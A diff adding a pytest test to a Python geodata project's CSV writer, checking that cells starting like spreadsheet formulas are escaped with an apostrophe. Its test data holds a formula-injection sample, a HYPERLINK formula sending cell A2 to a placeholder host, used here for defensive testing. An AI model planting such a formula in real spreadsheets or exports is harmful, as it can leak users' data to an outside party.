@@ -131,6 +131,26 @@ def test_csv_for_french_spreadsheets(tmp_path, filled):
     assert table[0]["date_debut"] == "2022-06-01"
 
 
+def test_csv_cells_never_run_as_spreadsheet_formulas(tmp_path):
+    """Text starting like a formula (=, +, -, @) is written as text (after an apostrophe), in
+    every CSV the tool writes; numbers keep their sign and decimal comma."""
+    import pandas as pd
+
+    from ort_geo.io.write import csv_fr
+
+    table = pd.DataFrame({
+        "titre": ['=HYPERLINK("http://exemple.invalid/?"&A2;"clic")', "+33 3 89 00 00 00",
+                  "-sommaire", "@SUM(A1:A9)", "Halles"],
+        "taux": [-1.5, 2.25, None, 0.0, -3.0],
+        "mixte": ["secret", -0.5, "< 11", 4, "x"],
+    })
+    rows = list(csv.reader(csv_fr(table).splitlines(), delimiter=";"))[1:]
+    assert [r[0] for r in rows] == ['\'=HYPERLINK("http://exemple.invalid/?"&A2;"clic")',
+                                    "'+33 3 89 00 00 00", "'-sommaire", "'@SUM(A1:A9)", "Halles"]
+    assert [r[1] for r in rows] == ["-1,5", "2,25", "", "0,0", "-3,0"]
+    assert [r[2] for r in rows] == ["secret", "-0,5", "< 11", "4", "x"]
+
+
 @pytest.mark.parametrize("fmt", FORMATS)
 def test_public_export_strips_private_fields(tmp_path, filled, fmt):
     path = export_layer(filled, "batiments", tmp_path / FORMATS[fmt], fmt, public=True)
